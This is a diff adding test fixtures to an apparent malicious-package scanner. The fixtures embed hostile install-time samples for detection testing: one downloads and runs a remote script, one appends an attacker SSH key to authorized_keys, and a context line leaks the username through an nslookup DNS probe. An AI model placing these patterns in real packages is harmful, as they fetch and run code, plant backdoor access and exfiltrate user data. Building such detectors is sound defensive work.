@@ -491,6 +491,42 @@ setup(name='synthetic-pkg', version='1.0.0')
     verdict: 'hold',
   },
   {
+    rule: 'downloads-and-executes',
+    name: 'a download saved with open(path, mode="w") and started through an f-string command',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `from sys import executable
+from urllib import request
+from os import getenv, system
+path = getenv("TEMP") + "/helper.pyw"
+script = request.urlopen("https://files.example.com/m.txt").read().decode("utf8")
+with open(path, mode='w', encoding='utf-8') as f:
+    f.write(script)
+system(f"start {executable} {path}")
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 8,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
+    rule: 'establishes-persistence',
+    name: 'setup.py appends a key to ~/.ssh/authorized_keys',
+    scan: () =>
+      sdist({
+        'setup.py': `import os
+from setuptools import setup
+with open('/home/' + os.getenv('USER') + '/.ssh/authorized_keys', 'a+') as f:
+    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@example')
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    weight: 70,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
